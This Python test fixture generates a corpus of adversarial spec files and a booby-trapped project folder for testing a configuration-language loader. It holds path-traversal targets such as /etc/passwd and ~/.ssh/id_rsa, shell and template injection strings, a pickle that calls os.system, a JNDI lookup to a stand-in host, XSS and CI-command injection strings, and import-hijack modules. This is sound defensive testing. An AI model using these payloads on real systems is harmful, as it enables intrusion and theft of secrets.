# ruff: noqa: E501 - tables
"""Specs that a stranger might send, each for something that it attacks; and the project they lie in."""

from __future__ import annotations

import os
from collections.abc import Iterator
from pathlib import Path

from specs import TWO_ARMS, changed

SECRET = "the-secret-of-another-project"
"""Stands in every file outside of the project, and must never be shown."""

PATHS = (
    *("../outside/secret.curr", "../../etc/passwd", "/etc/passwd", "~/.ssh/id_rsa", "$HOME/x", "${HOME}/x"),
    *("%USERPROFILE%/x", "file:///etc/passwd", "http://evil.invalid/x", "//evil.invalid/x", "C:/x", "/dev/zero"),
    *("/dev/random", "/dev/stdin", "/dev/fd/0", "/proc/self/environ", "/proc/self/mem", "link_out.curr"),
    *("link_dir/secret.curr", "link_loop.curr", "link_far.curr", "link_chain.curr", "link_dev.curr", "dangling.curr"),
    *("fifo.curr", "folder", "folder/../../outside/secret.curr", "./../outside/secret.curr", "", ".", "..", " ", "/"),
    *("//etc//passwd", "**/**/**/**", "[!a]*", "{a,b}", "*" * 200, "a" * 5_000, "x/" * 2_000, "../" * 2_000),
    *("secret.curr/", "$(touch PWNED)", "`touch PWNED`", "; touch PWNED", "|touch PWNED", "-rf", "--help", "@x"),
    *("a\0b.curr", "a\x1b[31m.curr", "\u202eb.curr", "a\\nb.curr"),
    *("zip://x!y", "s3://bucket/x", "hf://org/x", "latin1.curr", "payload.py", "CON", "NUL:", "folder/./../ok.curr"),
)  # fmt: skip

TEXTS = (
    *("[bold red]x[/]", "[link=http://evil.invalid]x[/link]", "[/]", "[@click=app.bell]x[/]", "\\\\[b]", ":bomb:"),
    *("<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "&lt;b&gt;", "--><b>", "]]>", "<!-- "),
    *("```", "`````", "~~~", "| a | b |", "![x](http://evil.invalid)", "[x](javascript:alert)", "@everyone", "#1"),
    *("::error::pwned", "::set-output name=x::y", "::stop-commands::x", "%0A::error::pwned", "##[error]x", "%0D%25"),
    *("=cmd|' /C calc'!A0", "+1", "@SUM(1)", "{0.__class__.__mro__}", "{__class__}", "{body.__class__}", "{body!r}"),
    *("{body:>1000000000}", "{body", "body}", "{{7*7}}", "{% for %}", "{}", "{ }", "{\\\\}", "%s%n", "%(x)s", "${x}"),
    *("${jndi:ldap://evil.invalid}", "$(touch PWNED)", "__import__('os').system('touch PWNED')", "lambda: 0"),
    *("\x1b[31mred", "\x1b]0;title\x07", "\x1b]8;;http://evil.invalid\x07x", "\x9b31m", "\x08\x08", "\r", "\0", "\x7f"),
    *("\u202epwned", "\u2066x\u2069", "\u200e\u200f\u061c", "\u2028x", "\x85x", "\u200bx", "\ufeffx", "e" + "\u0301" * 500),
    *("\U000e0041\U000e0042", "\ufff9x\ufffb", "\u0430dmin", "\uff3b\uff3d", "\U0001f468\u200d\U0001f469", "\ue000"),
)  # fmt: skip

NAMES = (
    *("__class__", "__init__", "__dict__", "__import__", "__proto__", "constructor", "mro", "model_fields", "None"),
    *("self", "import", "eval", "os", "nan", "inf", "a" * 5_000, "_", "const", "arm", "all", "default"),
)  # fmt: skip

EDITION = "edition 2026\n"

SHAPES = {
    "nested blocks": "a {\n" * 3_000,
    "nested blocks closed": "a {\n" * 3_000 + "}\n" * 3_000,
    "nested brackets": "let a = " + "[" * 5_000,
    "nested calls": "let a = " + "f(" * 3_000 + "1" + ")" * 3_000,
    "minus signs": "let a = " + "-" * 5_000 + "1",
    "a long sum": "let a = " + "1 + " * 5_000 + "1",
    "a long product of huge numbers": "let a = " + "1e300 * " * 1_000 + "1",
    "division by zero": "let a = 1 / 0\ntrain {\n  lr = a\n}\n",
    "a long path": "let a = " + "b." * 5_000 + "b",
    "a number of many digits": "let a = " + "9" * 5_000,
    "an exponent of many digits": "let a = 1e" + "9" * 60,
    "underscores": "let a = 1" + "_" * 5_000,
    "a range of all": "train {\n  seeds = 0 .. 1000000000\n}\n",
    "seeds without end": "train {\n  seeds = 1000000000\n}\n",
    "a list of seeds": "train {\n  seeds = [" + "1, " * 5_000 + "]\n}\n",
    "backslashes": 'let a = "' + "\\" * 20_000,
    "an escape that is none": 'let a = "' + "\\q" * 5_000 + '"',
    "quotes": '"' * 5_001,
    "other quotes": "'" * 5_001,
    "slashes": "/" * 5_001,
    "a comment without end": "/*" * 5_000,
    "a text without end": 'let a = """' + "x\n" * 5_000,
    "semicolons": ";" * 5_000,
    "letters of another script": "\u0430" * 5_000,
    "closing braces": "}\n" * 5_000,
    "blank lines": "\n" * 20_000,
    "comments": "# x\n" * 5_000 + "## y\n" * 5_000 + "a {\n}\n",
    "constants that double": "let a0 = [1, 1]\n" + "".join(f"let a{n + 1} = [a{n}, a{n}]\n" for n in range(64)),
    "constants that add up": "let a0 = 1e300\n" + "".join(f"let a{n + 1} = a{n} + a{n}\n" for n in range(64)),
    "a circle of constants": "let a = b\nlet b = c\nlet c = a\ntrain {\n  lr = a\n}\n",
    "a circle of arms": "arm a extends b {\n}\narm b extends a {\n}\n",
    "a circle of tasks": "task a: classify extends b {\n}\ntask b: classify extends a {\n}\n",
    "a circle of stages": "schedule s {\n  stage a {\n    after = b\n  }\n  stage b {\n    after = a\n  }\n}\n",
    "a circle of renames": "moved {\n  from = a\n  to = b\n}\nmoved {\n  from = b\n  to = a\n}\n",
    "arms without end": "".join(f"arm a{n} {{\n}}\n" for n in range(1_000)),
    "a name a thousand times": "task t: classify {\n}\n" * 1_000,
    "unknown kinds": "".join(f"knd{n} {{\n}}\n" for n in range(500)),
    "unknown attributes": "train {\n" + "".join(f"  btch{n} = 1\n" for n in range(500)) + "}\n",
    "a score of scores": "difficulty d {\n  score = " + "mean_of(" * 60 + "length" + ")" * 60 + "\n}\n",
    "uses itself": 'use "{self}" as a\n',
    "uses a circle": 'use "circle_a.curr" as a\n',
    "uses the deep": 'use "deep_1.curr" as a\n',
    "uses what is huge": 'use "huge.curr" as a\n',
    "uses one a hundred times": "".join(f'use "ok.curr" as a{n}\n' for n in range(300)),
    "uses under one name": 'use "ok.curr" as a\nuse "ok.curr" as a\n',
}  # fmt: skip

BYTES = {
    "nothing": b"",
    "a byte order mark": b"\xef\xbb\xbf",
    "two byte order marks": b"\xef\xbb\xbf\xef\xbb\xbfedition 2026\n",
    "UTF-16": "edition 2026\n".encode("utf-16"),
    "latin-1": "edition 2026\n# caf\xe9\n".encode("latin-1"),
    "overlong": b"edition 2026\n# \xc0\xaf\n",
    "half a character": b"edition 2026\n# \xf0\x9f\x98",
    "half of a pair": b"edition 2026\n# \xed\xa0\x80\n",
    "beyond Unicode": b"edition 2026\n# \xf5\x90\x80\x80\n",
    "lone carriage returns": b"edition 2026\rtrain {\r  batch = 1\r}\r",
    "zero bytes": b"\0" * 5_000,
    "every byte": bytes(range(256)) * 20,
    "a zip file": b"PK\x03\x04" + b"\0" * 100,
    "a pickle": b"cos\nsystem\n(S'touch PWNED'\ntR.",
    "an ELF header": b"\x7fELF\x02\x01\x01" + b"\0" * 60,
    "a shebang": b"#!/bin/sh\ntouch PWNED\n",
}

FILE_NAMES = (
    *(
        b"\x1b[31mred.curr",
        b"a\nb.curr",
        b"[bold]x[red].curr",
        b"a::error::x.curr",
        b"<b>x.curr",
        b"-rf.curr",
    ),
    *("\u202ename.curr".encode(), b"caf\xe9.curr", b"a,line=1.curr", b"$(touch PWNED).curr", b"`x```.curr"),
)
"""Names of files; a folder of somebody else's is full of names that somebody else chose."""


def specs() -> dict[str, bytes]:
    """Every spec by what it attacks."""
    found: dict[str, str | bytes] = {}
    for path in PATHS:
        found[f"use {path[:40]!r}"] = f'{EDITION}use "{path}" as lib\n'
        found[f"path {path[:40]!r}"] = changed(TWO_ARMS, ("data/tickets/*.jsonl", path))
        found[f"base {path[:40]!r}"] = changed(TWO_ARMS, ("bundled:minilm-l6/2", path))
    for text in TEXTS:
        documented = ("task route", f"## {text}\ntask route")
        found[f"prompt {text[:40]!a}"] = changed(
            TWO_ARMS, documented, ('  prompt = "{body}"', f'  prompt="{text} {{body}}"')
        )
        found[f"label {text[:40]!a}"] = changed(
            TWO_ARMS, ("  metric =", f'  labels = ["{text}", "b"]\n  metric =')
        )
        found[f"statement {text[:40]!a}"] = f"{TWO_ARMS}\n{text}\nlet a = {text}\n"
    for name in NAMES:
        found[f"task {name[:40]}"] = TWO_ARMS.replace("route", name)
        found[f"attribute {name[:40]}"] = changed(TWO_ARMS, ("  match", f"  {name} = {name}\n  match"))
        found[f"override {name[:40]}"] = changed(TWO_ARMS, ("  schedule", f"  {name}.{name} = 1\n  schedule"))
        found[f"word {name[:40]}"] = changed(TWO_ARMS, ("unimax(", f"{name}("))
    found |= {shape: EDITION + text for shape, text in SHAPES.items()}
    return {
        what: text if isinstance(text, bytes) else text.encode() for what, text in (found | BYTES).items()
    }


def project(at: Path) -> Iterator[tuple[str, Path]]:
    """Make a project with all the specs, next to one that is not theirs; gives each spec's file.

    In it lie links that leave it, a pipe that nobody writes to, and code under names that might be imported.
    """
    root, outside = at / "project", at / "outside"
    for folder in (root / "folder", outside, at / "etc"):
        folder.mkdir(parents=True)
    for secret in (outside / "secret.curr", outside / "secret.jsonl", at / "etc" / "passwd"):
        secret.write_text(f'{EDITION}# {SECRET}\nsource a {{\n  path = "{SECRET}"\n}}\n')
    links = {
        "link_out.curr": "../outside/secret.curr", "link_dir": "../outside", "link_loop.curr": "link_loop.curr",
        "link_far.curr": str(outside / "secret.curr"), "link_chain.curr": "link_out.curr",
        "link_dev.curr": "/dev/zero", "dangling.curr": "nowhere.curr",
    }  # fmt: skip
    for name, target in links.items():
        (root / name).symlink_to(target)
    os.mkfifo(root / "fifo.curr")
    (root / "ok.curr").write_text(EDITION)
    (root / "latin1.curr").write_bytes(BYTES["latin-1"])
    (root / "huge.curr").write_text(EDITION + "# x\n" * 300_000)
    (root / "circle_a.curr").write_text(f'{EDITION}use "circle_b.curr" as b\n')
    (root / "circle_b.curr").write_text(f'{EDITION}use "circle_a.curr" as a\n')
    for depth in range(1, 20):
        (root / f"deep_{depth}.curr").write_text(f'{EDITION}use "deep_{depth + 1}.curr" as d\n')
    for module in ("payload", "sitecustomize", "currc_plugin", "lark", "unimax"):
        (root / f"{module}.py").write_text("open('PWNED', 'w').close()\n")
    for number, (what, text) in enumerate(specs().items()):
        file = root / f"spec_{number}.curr"
        file.write_bytes(text.replace(b"{self}", file.name.encode()))
        yield what, file
    for name in FILE_NAMES:
        file = root / os.fsdecode(name)
        file.write_text(changed(TWO_ARMS, ("match = steps", "match=steps"), ("limit = 400", "limit = 300")))
        yield f"file name {name!r}", file
        broken = root / os.fsdecode(b"link to " + name)
        broken.symlink_to("nowhere")
        yield f"link name {name!r}", broken
